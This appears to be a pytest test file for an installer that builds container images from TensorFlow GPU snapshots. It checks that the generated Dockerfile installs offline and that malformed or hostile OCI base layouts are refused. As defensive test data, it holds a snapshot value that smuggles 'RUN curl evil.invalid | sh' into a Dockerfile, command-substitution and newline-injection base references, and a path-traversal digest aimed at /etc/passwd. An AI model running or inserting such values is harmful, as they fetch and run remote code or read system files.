"""The container image's pieces without tools: the Dockerfile (hostile snapshot values never become
Dockerfile lines), and the OCI layout writer/reader (a hostile base layout is refused)."""

from __future__ import annotations

import json
import re
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.support.snapshot_doc import make
from tfgpu_install.errors import BadInputError, UsageError
from tfgpu_install.snapshot import image as img
from tfgpu_install.snapshot import model as S
from tfgpu_install.snapshot import oci

CUBLAS = "lib/python3.11/site-packages/nvidia/cublas/lib/libcublas.so.12"


def _snap(**resolution: object) -> S.Snapshot:
    res = {"tensorflow": "2.17.1", "cuda": "12.3", "cudnn": "8.9", "python": "3.11", "cuda_from": "pip",
           "pins": {"nvidia-cudnn-cu12": "8.9.7.29"}}
    res.update(resolution)
    return make(resolution=res, files=(S.FileRecord(CUBLAS, "b" * 64, 10),))


def test_dockerfile_installs_offline_with_hashes_and_verifies() -> None:
    spec = img.spec_for(_snap())
    text = img.dockerfile(spec, "20250101T000000Z-export-abc")
    assert "ARG BASE=python:3.11-slim\nFROM ${BASE}\n" in text
    assert "pip install --no-index --require-hashes" in text
    assert "ENV LD_LIBRARY_PATH=/opt/tfgpu/site/nvidia/cublas/lib\n" in text
    assert "ENV PYTHONPATH=/opt/tfgpu/site" in text
    health = next(line for line in text.splitlines() if line.startswith("HEALTHCHECK"))
    argv = json.loads(health.split(" CMD ", 1)[1])
    assert argv[:2] == ["python3", img.CHECK]
    assert json.loads(argv[3])["cudnn"] == "8.9.7.29"  # the exact pin the check compares with
    assert f"CMD {json.dumps(argv)}" in text


def test_system_cuda_defaults_to_nvidias_cuda_base() -> None:
    spec = img.spec_for(_snap(tensorflow="2.11.0", cuda="11.2", cudnn="8.1", cuda_from="system", pins={}))
    assert spec.base == "nvidia/cuda:11.2.0-cudnn8-runtime-ubuntu20.04" and spec.cuda_from_system
    assert "apt-get install -y --no-install-recommends python3.11" in img.dockerfile(spec, "x")
    assert img.spec_for(_snap(), base="registry.local/py:3.11").base == "registry.local/py:3.11"


@pytest.mark.parametrize("field", ["tensorflow", "cuda", "python"])
def test_hostile_snapshot_values_never_reach_the_dockerfile(field: str) -> None:
    with pytest.raises(BadInputError):
        img.spec_for(_snap(**{field: "2.1\nRUN curl evil.invalid | sh"}))


@pytest.mark.parametrize("base", ["python:3.11-slim\nRUN x", "UPPER:case", "a b", "$(x)"])
def test_bad_base_reference_is_refused(base: str) -> None:
    with pytest.raises(UsageError):
        img.spec_for(_snap(), base=base)


def _layout(tmp: Path) -> Path:
    tree = tmp / "tree"
    (tree / "etc").mkdir(parents=True)
    (tree / "etc" / "os-release").write_text("ID=test\n")
    base = oci.BaseImage(tmp, {"config": {"Env": ["PATH=/usr/bin", "LD_LIBRARY_PATH=/old"]}}, ())
    oci.write_image(tmp / "base", base, tree, {"X": "1"}, ["true"], "base", created_by="test")
    return tmp / "base"


def test_image_on_a_base_layout_keeps_its_layers_and_sets_env(tmp_path: Path) -> None:
    layout = _layout(tmp_path)
    base = oci.read_base(layout, "base")
    tree = tmp_path / "mine"
    (tree / "opt" / "tfgpu").mkdir(parents=True)
    (tree / "opt" / "tfgpu" / "f.py").write_text("print(1)\n")
    m = oci.write_image(tmp_path / "out", base, tree, {"LD_LIBRARY_PATH": "/opt/x"}, ["python3", "-V"], "latest",
                        created_by="test")
    assert [x["digest"] for x in m["layers"][:1]] == [b.digest for b in base.layers]
    again = oci.read_base(tmp_path / "out", "latest")
    env = again.config["config"]["Env"]
    assert "LD_LIBRARY_PATH=/opt/x" in env and "LD_LIBRARY_PATH=/old" not in env and "PATH=/usr/bin" in env
    assert len(again.config["rootfs"]["diff_ids"]) == 2 and again.config["config"]["Cmd"] == ["python3", "-V"]
    top = tmp_path / "out" / "blobs" / "sha256" / m["layers"][-1]["digest"].split(":")[1]
    with tarfile.open(top) as tar:
        assert {(i.name, i.uid, i.mtime) for i in tar.getmembers() if i.isfile()} == {("opt/tfgpu/f.py", 0, 0)}


def test_hostile_base_layouts_are_refused(tmp_path: Path) -> None:
    layout = _layout(tmp_path)
    index = json.loads((layout / "index.json").read_text())
    index["manifests"][0]["digest"] = "sha256:../../../../etc/passwd"
    (layout / "index.json").write_text(json.dumps(index))
    with pytest.raises(BadInputError, match="not a sha256 digest"):
        oci.read_base(layout)
    layout = _layout(tmp_path / "b")
    digest = json.loads((layout / "index.json").read_text())["manifests"][0]["digest"]
    blob = layout / "blobs" / "sha256" / digest.split(":")[1]
    blob.write_bytes(blob.read_bytes().replace(b'"schemaVersion"', b'"schemaVersion" '))
    with pytest.raises(BadInputError, match="does not match its digest"):
        oci.read_base(layout)
    with pytest.raises(BadInputError, match="no image named"):
        oci.read_base(_layout(tmp_path / "c"), "other")


def test_resolution_added_is_typed_in_the_schema() -> None:
    """resolution.added (the user's own requirements) round-trips; a non-string entry is BAD_INPUT."""
    snap = make(resolution={"tensorflow": "2.17.1", "python": "3.11", "added": ["pandas>=2", "rich"]})
    assert S.loads(S.dumps(snap)).resolution.added == ("pandas>=2", "rich")
    bad = S.dumps(snap).replace("- rich", "- {evil: 1}")
    with pytest.raises(BadInputError, match=r"resolution\.added\[1\]"):
        S.loads(bad)


def _repack(layout: Path, change: Any) -> None:
    """The layout's image config changed by `change(config)` (in place), with a new config blob,
    manifest and index naming it: a well-formed layout whose config holds what the test put there."""
    import hashlib

    def put(doc: Any) -> str:
        data = json.dumps(doc).encode()
        digest = hashlib.sha256(data).hexdigest()
        (layout / "blobs" / "sha256" / digest).write_bytes(data)
        return f"sha256:{digest}"

    index = json.loads((layout / "index.json").read_text())
    entry = index["manifests"][0]
    manifest = json.loads((layout / "blobs" / "sha256" / entry["digest"].split(":")[1]).read_text())
    config = json.loads((layout / "blobs" / "sha256" / manifest["config"]["digest"].split(":")[1]).read_text())
    change(config)
    manifest["config"]["digest"] = put(config)
    entry["digest"] = put(manifest)
    (layout / "index.json").write_text(json.dumps(index))


def _set(key: str, value: Any) -> Any:
    return lambda c: c.__setitem__(key, value)


@pytest.mark.parametrize("change, what", [
    (_set("config", ["Env"]), "'config' is not a mapping"),
    (_set("history", {"created_by": "x"}), "'history' is not a list"),
    (_set("rootfs", "layers"), "'rootfs' is not a mapping"),
    (lambda c: c["config"].__setitem__("Env", "PATH=/bin"), "config.Env is not a list of strings"),
    (lambda c: c["config"].__setitem__("Labels", ["a"]), "config.Labels"),
    (lambda c: c["rootfs"]["diff_ids"].append("sha256:" + "0" * 64), "2 layer diff_ids, its manifest 1"),
    (_set("architecture", 7), "'architecture' is not a string"),
])
def test_a_malformed_base_config_is_refused_when_it_is_read(tmp_path: Path, change: Any, what: str) -> None:
    """Issue #39 item 17: read_base (which `snapshot image` calls before the bundle work) refuses each
    with BAD_INPUT; before, write_image met them after the bundle was made (exit 1)."""
    layout = _layout(tmp_path)
    assert oci.read_base(layout, "base").config["config"]["Env"]  # control: the untouched layout reads
    _repack(layout, change)
    with pytest.raises(BadInputError, match=re.escape(what)):
        oci.read_base(layout, "base")


@pytest.mark.parametrize("kind", ["link to /dev/zero", "fifo", "longer than its descriptor"])
def test_a_base_layer_that_is_not_its_file_is_refused_not_read_for_ever(tmp_path: Path, kind: str) -> None:
    """Issue #39 item 14: a layer blob that links to /dev/zero (or is a FIFO, or has grown) was
    copied without limit; now it is refused (a link is not followed, the size must be the
    descriptor's). Guarded by an alarm: the broken version hangs."""
    import os
    import signal

    layout = _layout(tmp_path)
    base = oci.read_base(layout, "base")
    oci.write_image(tmp_path / "control", base, tmp_path / "tree", {}, ["true"], "t", created_by="test")
    blob = layout / "blobs" / "sha256" / base.layers[0].digest.split(":")[1]
    blob.unlink()
    if kind == "fifo":
        os.mkfifo(blob)
    elif kind == "link to /dev/zero":
        os.symlink("/dev/zero", blob)
    else:
        blob.write_bytes(b"\0" * (base.layers[0].size + 1))
    signal.signal(signal.SIGALRM, lambda *_: pytest.fail(f"{kind}: still reading after 20 s"))
    signal.alarm(20)
    try:
        with pytest.raises(BadInputError, match="layer sha256:"):
            oci.write_image(tmp_path / "out", base, tmp_path / "tree", {}, ["true"], "t", created_by="test")
    finally:
        signal.alarm(0)
